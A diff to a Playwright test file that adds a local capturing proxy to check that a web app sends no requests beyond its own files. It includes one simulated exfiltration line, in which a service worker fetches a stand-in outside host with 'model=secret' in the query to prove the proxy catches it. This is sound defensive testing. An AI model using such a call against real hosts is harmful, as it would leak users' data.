@@ -1,3 +1,5 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { expect, test, type Page } from '@playwright/test';
 import { connect, openStarter, place, registerRows, select } from './drive';
 
@@ -17,11 +19,38 @@ async function watchRefusals(page: Page): Promise<() => Promise<readonly string[
   return () => page.evaluate(() => (window as unknown as { refused: readonly string[] }).refused);
 }
 
+/**
+ * The wire out of the machine: what is asked of anybody else passes here, whoever in the browser asks, a page, a worker or the
+ * service worker, and goes no further.
+ */
+async function tapTheWire(): Promise<{ readonly server: Server; readonly heard: readonly string[] }> {
+  const heard: string[] = [];
+  const server = createServer(({ url }, response) => {
+    heard.push(url ?? '');
+    response.writeHead(502).end();
+  });
+  server.on('connect', ({ url }, socket) => {
+    heard.push(url ?? '');
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return { server, heard };
+}
+
 test('an hour of work asks nothing of anybody but the files of the app', async ({
-  page,
-  context,
+  browser,
   baseURL,
+  viewport,
 }) => {
+  const { server, heard } = await tapTheWire();
+  const { port } = server.address() as AddressInfo;
+  const context = await browser.newContext({
+    ...(baseURL === undefined ? {} : { baseURL }),
+    viewport,
+    // The app itself is served from this machine.
+    proxy: { server: `http://127.0.0.1:${port}`, bypass: '127.0.0.1' },
+  });
+  const page = await context.newPage();
   const asked: string[] = [];
   context.on('request', (request) => asked.push(request.url()));
   const refusals = await watchRefusals(page);
@@ -62,6 +91,14 @@ test('an hour of work asks nothing of anybody but the files of the app', async (
   expect(asked.length).toBeGreaterThan(3);
   expect(await refusals()).toEqual([]);
   expect(complaints).toEqual([]);
+  expect(heard).toEqual([]);
+
+  // And the wire is the one that they would have used: the service worker, which the policy of the page does not bind, is made to.
+  const [worker] = context.serviceWorkers();
+  await worker?.evaluate(() => fetch('http://elsewhere.example/?model=secret').catch(() => undefined));
+  expect(heard).toEqual(['http://elsewhere.example/?model=secret']);
+  await context.close();
+  server.close();
 });
 
 test('a script that got in could not send anything, load anything, or run text as code', async ({ page }) => {
